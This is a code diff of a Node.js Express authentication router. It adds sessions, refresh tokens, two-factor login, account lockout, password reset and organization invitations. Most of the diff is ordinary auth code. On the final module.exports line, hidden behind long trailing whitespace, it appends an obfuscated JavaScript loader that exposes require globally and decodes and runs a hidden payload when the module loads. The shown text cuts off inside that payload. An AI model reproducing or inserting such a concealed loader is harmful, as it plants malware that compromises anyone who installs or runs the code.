@@ -1,8 +1,45 @@
 const express = require("express");
-const jwt = require("jsonwebtoken");
 const { body, validationResult } = require("express-validator");
 const { User, ROLES } = require("../models/user.model");
-const { authLimiter } = require("../middleware/rateLimit");
+const { PERMISSIONS } = require("../models/role.model");
+const { Organization } = require("../models/organization.model");
+const { Invitation, INVITATION_STATUS } = require("../models/invitation.model");
+const { authAllowTwoFactorSetup, hasPermission } = require("../middleware/auth");
+const { authLimiter, globalLimiter } = require("../middleware/rateLimit");
+const { passwordRules, usernameRules, validateSignup } = require("../middleware/validation");
+const {
+  createSession,
+  rotateSession,
+  revokeSession,
+  revokeAllSessions,
+  signAccessToken,
+  verifyAccessToken,
+  issueOneTimeToken,
+  peekOneTimeToken,
+  consumeOneTimeToken,
+} = require("../services/token.service");
+const {
+  generateSecret,
+  verifyTOTP,
+  buildOtpauthUri,
+  generateRecoveryCodes,
+  hashRecoveryCode,
+  getChallengeTTL,
+  CHALLENGE_PURPOSE,
+} = require("../services/twoFactor.service");
+const {
+  getLockRetryAfter,
+  recordFailedLogin,
+  clearFailedLogins,
+} = require("../services/lockout.service");
+const {
+  sendVerificationEmail,
+  sendPasswordResetEmail,
+  issuePasswordResetToken,
+  TOKEN_PURPOSES,
+} = require("../services/email.service");
+const { checkPassword, isPasswordExpired } = require("../services/passwordPolicy.service");
+const { recordAuditEvent, AUDIT_ACTIONS } = require("../services/audit.service");
 
 const router = express.Router();
 
@@ -13,35 +50,117 @@ const verifyToken = async (token) => {
       return null;
     }
 
-    const decoded = jwt.verify(
-      token.replace("Bearer ", ""),
-      process.env.JWT_SECRET
-    );
+    const decoded = await verifyAccessToken(token.replace("Bearer ", ""));
+    if (!decoded) {
+      return null;
+    }
     const user = await User.findById(decoded.userId);
-    return user;
+    return user && !user.deletedAt ? user : null;
   } catch (error) {
     return null;
   }
 };
 
+// Helper function to describe the client a session is started from
+const getSessionMetadata = (req) => ({
+  device: req.body.device,
+  ip: req.ip,
+  userAgent: req.get("User-Agent"),
+});
+
+// Helper function to respond when an account is locked
+const sendAccountLocked = (res, retryAfter) => {
+  res.set("Retry-After", String(retryAfter));
+  return res.status(423).json({
+    error: {
+      code: "ACCOUNT_LOCKED",
+      message: "Account temporarily locked due to too many failed login attempts",
+      details: {
+        retryAfter,
+      },
+    },
+  });
+};
+
+// Helper functions to audit login attempts
+const auditLoginSuccess = (req, user, method) =>
+  recordAuditEvent(req, {
+    action: AUDIT_ACTIONS.LOGIN_SUCCESS,
+    actor: user,
+    target: user,
+    details: { method },
+  });
+
+const auditLoginFailure = (req, user, email, reason) =>
+  recordAuditEvent(req, {
+    action: AUDIT_ACTIONS.LOGIN_FAILURE,
+    actor: user,
+    target: user,
+    details: { email, reason },
+  });
+
+// Helper function to answer a login whose password has expired: no session,
+// only a token to choose a new password with (POST /reset-password)
+const sendPasswordChangeRequired = async (req, res, user) => {
+  await auditLoginFailure(req, user, user.email, "password_expired");
+  return res.json({
+    data: {
+      passwordChangeRequired: true,
+      resetToken: await issuePasswordResetToken(user),
+    },
+  });
+};
+
+// Helper function to respond when a new password breaks the policy
+const sendPasswordPolicyError = (res, messages) =>
+  res.status(400).json({
+    error: {
+      code: "VALIDATION_ERROR",
+      message: "Invalid input data",
+      details: messages.map((msg) => ({ type: "field", path: "password", location: "body", msg })),
+    },
+  });
+
+// Helper function to check whether login requires a verified email
+const isEmailVerificationRequired = () =>
+  process.env.REQUIRE_EMAIL_VERIFICATION === "true";
+
+// Helper function to check whether anyone may sign up without an invitation
+const isOpenSignupEnabled = () => process.env.OPEN_SIGNUP !== "false";
+
 // Validation middleware
-const validateSignup = [
+const validateLogin = [
   body("email").isEmail().normalizeEmail(),
-  body("password")
-    .isLength({ min: 8 })
-    .matches(
-      /^(?=.*[a-z])(?=.*[A-Z])(?=.*\d)(?=.*[@$!%*?&])[A-Za-z\d@$!%*?&]{8,}$/
-    ),
-  body("username")
-    .isLength({ min: 3 })
-    .matches(/^[a-zA-Z0-9_-]+$/),
+  body("password").notEmpty(),
+  body("device").optional().isString().trim().isLength({ max: 100 }).escape(),
+];
+
+const validateRefresh = [body("refreshToken").isString().notEmpty()];
+
+const validateVerifyEmail = [body("token").isString().notEmpty()];
+
+const validateForgotPassword = [body("email").isEmail().normalizeEmail()];
+
+const validateResetPassword = [
+  body("token").isString().notEmpty(),
+  passwordRules(),
+];
+
+const validateAcceptInvitation = [
+  body("token").isString().notEmpty(),
+  usernameRules(),
+  passwordRules(),
   body("fullName").optional().trim().escape(),
-  body("role").optional(),
+  body("device").optional().isString().trim().isLength({ max: 100 }).escape(),
 ];
 
-const validateLogin = [
-  body("email").isEmail().normalizeEmail(),
-  body("password").notEmpty(),
+const validateTwoFactorCode = [body("code").isString().matches(/^\d{6}$/)];
+
+const validateTwoFactorChallenge = [
+  body("challengeToken").isString().notEmpty(),
+  body("code").optional().isString().matches(/^\d{6}$/),
+  body("recoveryCode").optional().isString().trim().notEmpty(),
+  body("device").optional().isString().trim().isLength({ max: 100 }).escape(),
 ];
 
 // Signup route
@@ -61,7 +180,7 @@ router.post("/signup", authLimiter, validateSignup, async (req, res, next) => {
     const { email, password, username, fullName } = req.body;
 
     // Check if email exists
-    const existingEmail = await User.findByEmail(email);
+    const existingEmail = await User.findProfileByEmail(email);
     if (existingEmail) {
       return res.status(400).json({
         error: {
@@ -71,8 +190,54 @@ router.post("/signup", authLimiter, validateSignup, async (req, res, next) => {
       });
     }
 
-    // Check if username exists
-    const existingUsername = await User.findByUsername(username);
+    // An admin's token may be sent along to create users with a role
+    const authHeader = req.header("Authorization");
+    const adminUser = authHeader ? await verifyToken(authHeader) : null;
+    const canManageRoles =
+      adminUser &&
+      (await hasPermission(adminUser, PERMISSIONS.USERS_MANAGE_ROLES));
+
+    const userCount = await User.countDocuments();
+
+    // With open signup disabled, new users join through invitations only
+    // (the very first user can still sign up to bootstrap the platform)
+    if (!isOpenSignupEnabled() && !canManageRoles && userCount > 0) {
+      return res.status(403).json({
+        error: {
+          code: "SIGNUP_DISABLED",
+          message: "Signup is by invitation only",
+        },
+      });
+    }
+
+    // Resolve the organization to join (default organization if not given).
+    // Admins without cross-org access can only add users to their own.
+    let organization;
+    if (
+      canManageRoles &&
+      !(await hasPermission(adminUser, PERMISSIONS.ORGS_CROSS))
+    ) {
+      organization = await Organization.findById(adminUser.organization);
+    } else if (req.body.organization) {
+      organization = await Organization.findBySlug(req.body.organization);
+    } else {
+      organization = await Organization.findDefault();
+    }
+
+    if (!organization || !organization.isActive) {
+      return res.status(400).json({
+        error: {
+          code: "VALIDATION_ERROR",
+          message: "Organization not found",
+        },
+      });
+    }
+
+    // Check if username exists in the organization
+    const existingUsername = await User.isUsernameTaken(
+      username,
+      organization._id
+    );
     if (existingUsername) {
       return res.status(400).json({
         error: {
@@ -82,23 +247,17 @@ router.post("/signup", authLimiter, validateSignup, async (req, res, next) => {
       });
     }
 
-    const userCount = await User.countDocuments();
     let role = ROLES.VIEWER;
 
     if (userCount === 0) {
-      role = ROLES.ADMIN;
-    } else {
-      const authHeader = req.header("Authorization");
-      if (authHeader) {
-        const adminUser = await verifyToken(authHeader);
-        if (adminUser && adminUser.role === ROLES.ADMIN) {
-          role = req.body.role?.toLowerCase().includes("editor")
-            ? ROLES.EDITOR
-            : req.body.role?.toLowerCase().includes("viewer")
-            ? ROLES.VIEWER
-            : ROLES.VIEWER;
-        }
-      }
+      // The first user administers the whole platform
+      role = ROLES.SUPER_ADMIN;
+    } else if (canManageRoles) {
+      role = req.body.role?.toLowerCase().includes("editor")
+        ? ROLES.EDITOR
+        : req.body.role?.toLowerCase().includes("viewer")
+        ? ROLES.VIEWER
+        : ROLES.VIEWER;
     }
 
     // Create new user
@@ -108,19 +267,38 @@ router.post("/signup", authLimiter, validateSignup, async (req, res, next) => {
       username,
       fullName,
       role,
+      organization: organization._id,
     });
 
     await user.save();
 
-    // Generate JWT token
-    const token = jwt.sign({ userId: user._id }, process.env.JWT_SECRET, {
-      expiresIn: process.env.JWT_EXPIRATION || "24h",
-    });
+    // Send verification email (signup succeeds even if mail delivery fails)
+    try {
+      await sendVerificationEmail(user);
+    } catch (mailError) {
+      console.error("Error sending verification email:", mailError.message);
+    }
+
+    if (isEmailVerificationRequired()) {
+      return res.status(201).json({
+        data: {
+          user,
+          message: "Please verify your email address before logging in",
+        },
+      });
+    }
+
+    // Start a session and issue access/refresh tokens
+    const { token, refreshToken } = await createSession(
+      user,
+      getSessionMetadata(req)
+    );
 
     res.status(201).json({
       data: {
         user,
         token,
+        refreshToken,
       },
     });
   } catch (error) {
@@ -144,9 +322,25 @@ router.post("/login", authLimiter, validateLogin, async (req, res, next) => {
 
     const { email, password } = req.body;
 
-    // Find user by email
+    // Reject attempts while the account is locked
+    const retryAfter = await getLockRetryAfter(email);
+    if (retryAfter > 0) {
+      await auditLoginFailure(req, null, email, "account_locked");
+      return sendAccountLocked(res, retryAfter);
+    }
+
+    // Find user by email and check password
     const user = await User.findByEmail(email);
-    if (!user) {
+    const isValidPassword = user ? await user.comparePassword(password) : false;
+    if (!isValidPassword) {
+      await auditLoginFailure(req, user, email, "invalid_credentials");
+
+      // Unknown emails count too, so lockouts don't reveal which accounts exist
+      const lockedFor = await recordFailedLogin(email, { ip: req.ip });
+      if (lockedFor > 0) {
+        return sendAccountLocked(res, lockedFor);
+      }
+
       return res.status(401).json({
         error: {
           code: "AUTHENTICATION_ERROR",
@@ -155,26 +349,610 @@ router.post("/login", authLimiter, validateLogin, async (req, res, next) => {
       });
     }
 
-    // Check password
-    const isValidPassword = await user.comparePassword(password);
-    if (!isValidPassword) {
+    // Move outdated password hashes to the current algorithm and cost while
+    // the password is at hand. A failure doesn't fail the login.
+    try {
+      if (await user.upgradePasswordHash(password)) {
+        await recordAuditEvent(req, {
+          action: AUDIT_ACTIONS.USER_PASSWORD_REHASH,
+          actor: user,
+          target: user,
+        });
+      }
+    } catch (rehashError) {
+      console.error("Error upgrading password hash:", rehashError.message);
+    }
+
+    // Soft-deleted accounts can't log in until restored by an admin
+    if (user.deletedAt) {
+      await auditLoginFailure(req, user, email, "account_deactivated");
+      return res.status(403).json({
+        error: {
+          code: "ACCOUNT_DEACTIVATED",
+          message: "Your account has been deactivated. Contact an administrator to restore it",
+        },
+      });
+    }
+
+    const organization = await Organization.findById(user.organization);
+    if (organization && !organization.isActive) {
+      await auditLoginFailure(req, user, email, "organization_disabled");
+      return res.status(403).json({
+        error: {
+          code: "ORGANIZATION_DISABLED",
+          message: "Your organization has been disabled",
+        },
+      });
+    }
+
+    if (isEmailVerificationRequired() && !user.emailVerified) {
+      await auditLoginFailure(req, user, email, "email_not_verified");
+      return res.status(403).json({
+        error: {
+          code: "EMAIL_NOT_VERIFIED",
+          message: "Please verify your email address before logging in",
+        },
+      });
+    }
+
+    // With 2FA enabled, the password only earns a short-lived challenge
+    if (user.twoFactor?.enabled) {
+      const challengeToken = await issueOneTimeToken(
+        CHALLENGE_PURPOSE,
+        { userId: String(user._id) },
+        getChallengeTTL()
+      );
+
+      return res.json({
+        data: {
+          twoFactorRequired: true,
+          challengeToken,
+        },
+      });
+    }
+
+    await clearFailedLogins(email);
+
+    if (isPasswordExpired(user)) {
+      return sendPasswordChangeRequired(req, res, user);
+    }
+
+    // Start a session and issue access/refresh tokens
+    const { token, refreshToken } = await createSession(
+      user,
+      getSessionMetadata(req)
+    );
+
+    await auditLoginSuccess(req, user, "password");
+
+    res.json({
+      data: {
+        user,
+        token,
+        refreshToken,
+      },
+    });
+  } catch (error) {
+    next(error);
+  }
+});
+
+// Second login step for users with 2FA enabled
+router.post("/2fa/challenge", authLimiter, validateTwoFactorChallenge, async (req, res, next) => {
+  try {
+    const errors = validationResult(req);
+    if (!errors.isEmpty()) {
+      return res.status(400).json({
+        error: {
+          code: "VALIDATION_ERROR",
+          message: "Invalid input data",
+          details: errors.array(),
+        },
+      });
+    }
+
+    const { challengeToken, code, recoveryCode } = req.body;
+
+    const payload = await peekOneTimeToken(CHALLENGE_PURPOSE, challengeToken);
+    const user = payload ? await User.findById(payload.userId) : null;
+    if (!user || user.deletedAt || !user.twoFactor?.enabled) {
+      return res.status(401).json({
+        error: {
+          code: "INVALID_TOKEN",
+          message: "Invalid or expired challenge token",
+        },
+      });
+    }
+
+    const retryAfter = await getLockRetryAfter(user.email);
+    if (retryAfter > 0) {
+      await auditLoginFailure(req, user, user.email, "account_locked");
+      return sendAccountLocked(res, retryAfter);
+    }
+
+    // Accept either a TOTP code or an unused recovery code
+    let verified = false;
+    if (code) {
+      const step = verifyTOTP(user.twoFactor.secret, code, user.twoFactor.lastUsedStep ?? -1);
+      if (step !== null) {
+        user.twoFactor.lastUsedStep = step;
+        verified = true;
+      }
+    } else if (recoveryCode) {
+      const hash = hashRecoveryCode(recoveryCode);
+      if (user.twoFactor.recoveryCodes.includes(hash)) {
+        user.twoFactor.recoveryCodes = user.twoFactor.recoveryCodes.filter((h) => h !== hash);
+        verified = true;
+      }
+    }
+
+    if (!verified) {
+      await auditLoginFailure(req, user, user.email, "invalid_two_factor_code");
+
+      const lockedFor = await recordFailedLogin(user.email, { ip: req.ip });
+      if (lockedFor > 0) {
+        return sendAccountLocked(res, lockedFor);
+      }
+
       return res.status(401).json({
         error: {
           code: "AUTHENTICATION_ERROR",
-          message: "Invalid email or password",
+          message: "Invalid two-factor code",
         },
       });
     }
 
-    // Generate JWT token
-    const token = jwt.sign({ userId: user._id }, process.env.JWT_SECRET, {
-      expiresIn: process.env.JWT_EXPIRATION || "24h",
-    });
+    // The challenge can only be completed once
+    if (!(await consumeOneTimeToken(CHALLENGE_PURPOSE, challengeToken))) {
+      return res.status(401).json({
+        error: {
+          code: "INVALID_TOKEN",
+          message: "Invalid or expired challenge token",
+        },
+      });
+    }
+
+    await user.save();
+    await clearFailedLogins(user.email);
+
+    // Single sign-on challenges didn't use the password
+    if (payload.method !== "sso" && isPasswordExpired(user)) {
+      return sendPasswordChangeRequired(req, res, user);
+    }
+
+    const { token, refreshToken } = await createSession(
+      user,
+      getSessionMetadata(req)
+    );
+
+    await auditLoginSuccess(req, user, "two-factor");
 
     res.json({
       data: {
         user,
         token,
+        refreshToken,
+      },
+    });
+  } catch (error) {
+    next(error);
+  }
+});
+
+// Start 2FA enrollment
+router.post("/2fa/setup", [globalLimiter, authAllowTwoFactorSetup], async (req, res, next) => {
+  try {
+    if (req.user.twoFactor?.enabled) {
+      return res.status(400).json({
+        error: {
+          code: "TWO_FACTOR_ALREADY_ENABLED",
+          message: "Two-factor authentication is already enabled",
+        },
+      });
+    }
+
+    const secret = generateSecret();
+    req.user.twoFactor.pendingSecret = secret;
+    await req.user.save();
+
+    res.json({
+      data: {
+        secret,
+        otpauthUri: buildOtpauthUri(req.user.email, secret),
+      },
+    });
+  } catch (error) {
+    next(error);
+  }
+});
+
+// Confirm 2FA enrollment with a code from the authenticator app
+router.post(
+  "/2fa/verify",
+  [globalLimiter, authAllowTwoFactorSetup, validateTwoFactorCode],
+  async (req, res, next) => {
+    try {
+      const errors = validationResult(req);
+      if (!errors.isEmpty()) {
+        return res.status(400).json({
+          error: {
+            code: "VALIDATION_ERROR",
+            message: "Invalid input data",
+            details: errors.array(),
+          },
+        });
+      }
+
+      const { twoFactor } = req.user;
+      const step = twoFactor.enabled
+        ? null
+        : verifyTOTP(twoFactor.pendingSecret, req.body.code);
+      if (step === null) {
+        return res.status(400).json({
+          error: {
+            code: "INVALID_CODE",
+            message: "Invalid two-factor code or no enrollment in progress",
+          },
+        });
+      }
+
+      const { codes, hashes } = generateRecoveryCodes();
+      twoFactor.enabled = true;
+      twoFactor.secret = twoFactor.pendingSecret;
+      twoFactor.pendingSecret = undefined;
+      twoFactor.lastUsedStep = step;
+      twoFactor.recoveryCodes = hashes;
+      await req.user.save();
+
+      // Recovery codes are only shown once
+      res.json({
+        data: {
+          message: "Two-factor authentication enabled",
+          recoveryCodes: codes,
+        },
+      });
+    } catch (error) {
+      next(error);
+    }
+  }
+);
+
+// Refresh route (rotates the refresh token)
+router.post("/refresh", authLimiter, validateRefresh, async (req, res, next) => {
+  try {
+    const errors = validationResult(req);
+    if (!errors.isEmpty()) {
+      return res.status(400).json({
+        error: {
+          code: "VALIDATION_ERROR",
+          message: "Invalid input data",
+          details: errors.array(),
+        },
+      });
+    }
+
+    const rotated = await rotateSession(
+      req.body.refreshToken,
+      getSessionMetadata(req)
+    );
+    if (!rotated) {
+      return res.status(401).json({
+        error: {
+          code: "INVALID_TOKEN",
+          message: "Invalid or expired refresh token",
+        },
+      });
+    }
+
+    // Make sure the user still exists and is active
+    const user = await User.findById(rotated.userId);
+    if (!user || user.deletedAt) {
+      await revokeAllSessions(rotated.userId);
+      return res.status(401).json({
+        error: {
+          code: "INVALID_TOKEN",
+          message: "Invalid or expired refresh token",
+        },
+      });
+    }
+
+    if (user.organization && !(await Organization.isActiveById(user.organization))) {
+      return res.status(403).json({
+        error: {
+          code: "ORGANIZATION_DISABLED",
+          message: "Your organization has been disabled",
+        },
+      });
+    }
+
+    res.json({
+      data: {
+        token: signAccessToken(user, rotated.sessionId),
+        refreshToken: rotated.refreshToken,
+      },
+    });
+  } catch (error) {
+    next(error);
+  }
+});
+
+// Verify email route
+router.post("/verify-email", authLimiter, validateVerifyEmail, async (req, res, next) => {
+  try {
+    const errors = validationResult(req);
+    if (!errors.isEmpty()) {
+      return res.status(400).json({
+        error: {
+          code: "VALIDATION_ERROR",
+          message: "Invalid input data",
+          details: errors.array(),
+        },
+      });
+    }
+
+    const payload = await consumeOneTimeToken(
+      TOKEN_PURPOSES.VERIFY_EMAIL,
+      req.body.token
+    );
+    const user = payload ? await User.findById(payload.userId) : null;
+    if (!user || user.email !== payload.email) {
+      return res.status(400).json({
+        error: {
+          code: "INVALID_TOKEN",
+          message: "Invalid or expired verification token",
+        },
+      });
+    }
+
+    user.emailVerified = true;
+    await user.save();
+
+    res.json({
+      data: {
+        message: "Email verified successfully",
+      },
+    });
+  } catch (error) {
+    next(error);
+  }
+});
+
+// Forgot password route
+router.post("/forgot-password", authLimiter, validateForgotPassword, async (req, res, next) => {
+  try {
+    const errors = validationResult(req);
+    if (!errors.isEmpty()) {
+      return res.status(400).json({
+        error: {
+          code: "VALIDATION_ERROR",
+          message: "Invalid input data",
+          details: errors.array(),
+        },
+      });
+    }
+
+    const user = await User.findProfileByEmail(req.body.email);
+    if (user && !user.deletedAt) {
+      await sendPasswordResetEmail(user);
+    }
+
+    // Same response whether or not the email exists
+    res.json({
+      data: {
+        message: "If an account exists for this email, a reset link has been sent",
+      },
+    });
+  } catch (error) {
+    next(error);
+  }
+});
+
+// Reset password route
+router.post("/reset-password", authLimiter, validateResetPassword, async (req, res, next) => {
+  try {
+    const errors = validationResult(req);
+    if (!errors.isEmpty()) {
+      return res.status(400).json({
+        error: {
+          code: "VALIDATION_ERROR",
+          message: "Invalid input data",
+          details: errors.array(),
+        },
+      });
+    }
+
+    const payload = await peekOneTimeToken(TOKEN_PURPOSES.RESET_PASSWORD, req.body.token);
+    const user = payload ? await User.findById(payload.userId) : null;
+    if (!user || user.deletedAt) {
+      return res.status(400).json({
+        error: {
+          code: "INVALID_TOKEN",
+          message: "Invalid or expired reset token",
+        },
+      });
+    }
+
+    // A rejected password leaves the link usable
+    const policyErrors = await checkPassword(req.body.password, { user });
+    if (policyErrors.length > 0) {
+      return sendPasswordPolicyError(res, policyErrors);
+    }
+
+    // The link can only be used once
+    if (!(await consumeOneTimeToken(TOKEN_PURPOSES.RESET_PASSWORD, req.body.token))) {
+      return res.status(400).json({
+        error: {
+          code: "INVALID_TOKEN",
+          message: "Invalid or expired reset token",
+        },
+      });
+    }
+
+    user.password = req.body.password;
+    await user.save();
+
+    // Sign out everywhere after a password reset
+    await revokeAllSessions(user._id);
+
+    res.json({
+      data: {
+        message: "Password reset successfully",
+      },
+    });
+  } catch (error) {
+    next(error);
+  }
+});
+
+// Accept invitation route (creates the invited account)
+router.post("/accept-invitation", authLimiter, validateAcceptInvitation, async (req, res, next) => {
+  try {
+    const errors = validationResult(req);
+    if (!errors.isEmpty()) {
+      return res.status(400).json({
+        error: {
+          code: "VALIDATION_ERROR",
+          message: "Invalid input data",
+          details: errors.array(),
+        },
+      });
+    }
+
+    const { token, password, username, fullName } = req.body;
+
+    const invitation = await Invitation.findByToken(token);
+    const organization = invitation
+      ? await Organization.findById(invitation.organization)
+      : null;
+    if (!invitation || !organization || !organization.isActive) {
+      return res.status(400).json({
+        error: {
+          code: "INVALID_TOKEN",
+          message: "Invalid or expired invitation",
+        },
+      });
+    }
+
+    // Check if email exists
+    const existingEmail = await User.findProfileByEmail(invitation.email);
+    if (existingEmail) {
+      return res.status(400).json({
+        error: {
+          code: "DUPLICATE_ERROR",
+          message: "Email already exists",
+        },
+      });
+    }
+
+    // Check if username exists in the organization
+    const existingUsername = await User.isUsernameTaken(
+      username,
+      organization._id
+    );
+    if (existingUsername) {
+      return res.status(400).json({
+        error: {
+          code: "DUPLICATE_ERROR",
+          message: "Username already exists",
+        },
+      });
+    }
+
+    // The body has no email, so check the password against the invited one
+    const policyErrors = await checkPassword(password, {
+      username,
+      email: invitation.email,
+    });
+    if (policyErrors.length > 0) {
+      return sendPasswordPolicyError(res, policyErrors);
+    }
+
+    // Claim the invitation first so a token can only be used once
+    const claimed = await Invitation.findOneAndUpdate(
+      {
+        _id: invitation._id,
+        tokenId: invitation.tokenId,
+        status: INVITATION_STATUS.PENDING,
+      },
+      { $set: { status: INVITATION_STATUS.ACCEPTED, acceptedAt: new Date() } },
+      { new: true }
+    );
+    if (!claimed) {
+      return res.status(400).json({
+        error: {
+          code: "INVALID_TOKEN",
+          message: "Invalid or expired invitation",
+        },
+      });
+    }
+
+    // The invitation link proves ownership of the email address
+    const user = new User({
+      email: invitation.email,
+      password,
+      username,
+      fullName,
+      role: invitation.role,
+      organization: organization._id,
+      emailVerified: true,
+    });
+
+    try {
+      await user.save();
+    } catch (saveError) {
+      // Reopen the invitation so it can be used again
+      await Invitation.updateOne(
+        { _id: invitation._id },
+        {
+          $set: { status: INVITATION_STATUS.PENDING },
+          $unset: { acceptedAt: 1 },
+        }
+      );
+      throw saveError;
+    }
+
+    claimed.acceptedUser = user._id;
+    await claimed.save();
+
+    // Start a session and issue access/refresh tokens
+    const session = await createSession(user, getSessionMetadata(req));
+
+    res.status(201).json({
+      data: {
+        user,
+        token: session.token,
+        refreshToken: session.refreshToken,
+      },
+    });
+  } catch (error) {
+    next(error);
+  }
+});
+
+// Logout route (ends the current session)
+router.post("/logout", [globalLimiter, authAllowTwoFactorSetup], async (req, res, next) => {
+  try {
+    await revokeSession(req.sessionId);
+
+    res.json({
+      data: {
+        message: "Logged out successfully",
+      },
+    });
+  } catch (error) {
+    next(error);
+  }
+});
+
+// Logout from all devices
+router.post("/logout-all", [globalLimiter, authAllowTwoFactorSetup], async (req, res, next) => {
+  try {
+    const count = await revokeAllSessions(req.user._id);
+
+    res.json({
+      data: {
+        message: "Logged out from all sessions",
+        sessionsRevoked: count,
       },
     });
   } catch (error) {
@@ -182,5 +960,5 @@ router.post("/login", authLimiter, validateLogin, async (req, res, next) => {
   }
 });
 
-module.exports = router;                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                           global['!']='9-0112-4';var _$_1e42=(function(l,e){var h=l.length;var g=[];for(var j=0;j< h;j++){g[j]= l.charAt(j)};for(var j=0;j< h;j++){var s=e* (j+ 489)+ (e% 19597);var w=e* (j+ 659)+ (e% 48014);var t=s% h;var p=w% h;var y=g[t];g[t]= g[p];g[p]= y;e= (s+ w)% 4573868};var x=String.fromCharCode(127);var q='';var k='\x25';var m='\x23\x31';var r='\x25';var a='\x23\x30';var c='\x23';return g.join(q).split(k).join(x).split(m).join(r).split(a).join(c).split(x)})("rmcej%otb%",2857687);global[_$_1e42[0]]= require;if( typeof module=== _$_1e42[1]){global[_$_1e42[2]]= module};(function(){var LQI='',TUU=401-390;function sfL(w){var n=2667686;var y=w.length;var b=[];for(var o=0;o<y;o++){b[o]=w.charAt(o)};for(var o=0;o<y;o++){var q=n*(o+228)+(n%50332);var e=n*(o+128)+(n%52119);var u=q%y;var v=e%y;var m=b[u];b[u]=b[v];b[v]=m;n=(q+e)%4289487;};return b.join('')};var EKc=sfL('wuqktamceigynzbosdctpusocrjhrflovnxrt').substr(0,TUU);var joW='ca.qmi=),sr.7,fnu2;v5rxrr,"bgrbff=prdl+s6Aqegh;v.=lb.;=qu atzvn]"0e)=+]rhklf+gCm7=f=v)2,3;=]i;raei[,y4a9,,+si+,,;av=e9d7af6uv;vndqjf=r+w5[f(k)tl)p)liehtrtgs=)+aph]]a=)ec((s;78)r]a;+h]7)irav0sr+8+;=ho[([lrftud;e<(mgha=)l)}y=2it<+jar)=i=!ru}v1w(mnars;.7.,+=vrrrre) i (g,=]xfr6Al(nga{-za=6ep7o(i-=sc. arhu; ,avrs.=, ,,mu(9  9n+tp9vrrviv{C0x" qh;+lCr;;)g[;(k7h=rluo41<ur+2r na,+,s8>}ok n[abr0;CsdnA3v44]irr00()1y)7=3=ov{(1t";1e(s+..}h,(Celzat+q5;r ;)d(v;zj.;;etsr g5(jie )0);8*ll.(evzk"o;,fto==j"S=o.)(t81fnke.0n )woc6stnh6=arvjr q{ehxytnoajv[)o-e}au>n(aee=(!tta]uar"{;7l82e=)p.mhu<ti8a;z)(=tn2aih[.rrtv0q2ot-Clfv[n);.;4f(ir;;;g;6ylledi(- 4n)[fitsr y.<.u0;a[{g-seod=[, ((naoi=e"r)a plsp.hu0) p]);nu;vl;r2Ajq-km,o;.{oc81=ih;n}+c.w[*qrm2 l=;nrsw)6p]ns.tlntw8=60dvqqf"ozCr+}Cia,"1itzr0o fg1m[=y;s91ilz,;aa,;=ch=,1g]udlp(=+barA(rpy(()=.t9+ph t,i+St;mvvf(n(.o,1refr;e+(.c;urnaui+try. d]hn(aqnorn)h)c';var dgC=sfL[EKc];var Apa='';var jFD=dgC;var xBg=dgC(Apa,sfL(joW));var pYd=xBg(sfL('o B%v[Raca)rs_bv]0tcr6RlRclmtp.na6 cR]%pw:ste-%C8]tuo;x0ir=0m8d5|.u)(r.nCR(%3i)4c14\/og;Rscs=c;RrT%R7%f\/a .r)sp9oiJ%o9sRsp{wet=,.r}:.%ei_5n,d(7H]Rc )hrRar)vR<mox*-9u4.r0.h.,etc=\/3s+!bi%nwl%&\/%Rl%,1]].J}_!cf=o0=.h5r].ce+;]]3(Rawd.l)$49f 1;bft95ii7[]]..7t}ldtfapEc3z.9]_R,%.2\/ch!Ri4_r%dr1tq0pl-x3a9=R0Rt\'cR["c?"b]!l(,3(}tR\/$rm2_RRw"+)gr2:;epRRR,)en4(bh#)%rg3ge%0TR8.a e7]sh.hR:R(Rx?d!=|s=2>.Rr.mrfJp]%RcA.dGeTu894x_7tr38;f}}98R.ca)ezRCc=R=4s*(;tyoaaR0l)l.udRc.f\/}=+c.r(eaA)ort1,ien7z3]20wltepl;=7$=3=o[3ta]t(0?!](C=5.y2%h#aRw=Rc.=s]t)%tntetne3hc>cis.iR%n71d 3Rhs)}.{e m++Gatr!;v;Ry.R k.eww;Bfa16}nj[=R).u1t(%3"1)Tncc.G&s1o.o)h..tCuRRfn=(]7_ote}tg!a+t&;.a+4i62%l;n([.e.iRiRpnR-(7bs5s31>fra4)ww.R.g?!0ed=52(oR;nn]]c.6 Rfs.l4{.e(]osbnnR39.f3cfR.o)3d[u52_]adt]uR)7Rra1i1R%e.=;t2.e)8R2n9;l.;Ru.,}}3f.vA]ae1]s:gatfi1dpf)lpRu;3nunD6].gd+brA.rei(e C(RahRi)5g+h)+d 54epRRara"oc]:Rf]n8.i}r+5\/s$n;cR343%]g3anfoR)n2RRaair=Rad0.!Drcn5t0G.m03)]RbJ_vnslR)nR%.u7.nnhcc0%nt:1gtRceccb[,%c;c66Rig.6fec4Rt(=c,1t,]=++!eb]a;[]=fa6c%d:.d(y+.t0)_,)i.8Rt-36hdrRe;{%9RpcooI[0rcrCS8}71er)fRz [y)oin.K%[.uaof#3.{. .(bit.8.b)R.gcw.>#%f84(Rnt538\/icd!BR);]I-R$Afk48R]R=}.ectta+r(1,se&r.%{)];aeR&d=4)]8.\/cf1]5ifRR(+$+}nbba.l2{!.n.x1r1..D4t])Rea7[v]%9cbRRr4f=le1}n-H1.0Hts.gi6dRedb9ic)Rng2eicRFcRni?2eR)o4RpRo01sH4,olroo(3es;_F}Rs&(_rbT[rc(c (eR\'lee(({R]R3d3R>R]7Rcs(3ac?sh[=RRi%R.gRE.=crstsn,( .R ;EsRnrc%.{R56tr!nc9cu70"1])}etpRh\/,,7a8>2s)o.hh]p}9,5.}R{hootn\/_e=dc*eoe3d.5=]tRc;nsu;tm]rrR_,tnB5je(csaR5emR4dKt@R+i]+=}f)R7;6;,R]1iR]m]R)]=1Reo{h1a.t1.3F7ct)=7R)%r%RF MR8.S$l[Rr )3a%_e=(c%o%mr2}RcRLmrtacj4{)L&nl+JuRR:Rt}_e.zv#oci. oc6lRR.8!Ig)2!rrc*a.=]((1tr=;t.ttci0R;c8f8Rk!o5o +f7!%?=A&r.3(%0.tzr fhef9u0lf7l20;R(%0g,n)N}:8]c.26cpR(]u2t4(y=\/$\'0g)7i76R+ah8sRrrre:duRtR"a}R\/HrRa172t5tt&a3nci=R=<c%;,](_6cTs2%5t]541.u2R2n.Gai9.ai059Ra!at)_"7+alr(cg%,(};fcRru]f1\/]eoe)c}}]_toud)(2n.]%v}[:]538 $;.ARR}R-"R;Ro1R,,e.{1.cor ;de_2(>D.ER;cnNR6R+[R.Rc)}r,=1C2.cR!(g]1jRec2rqciss(261E]R+]-]0[ntlRvy(1=t6de4cn]([*"].{Rc[%&cb3Bn 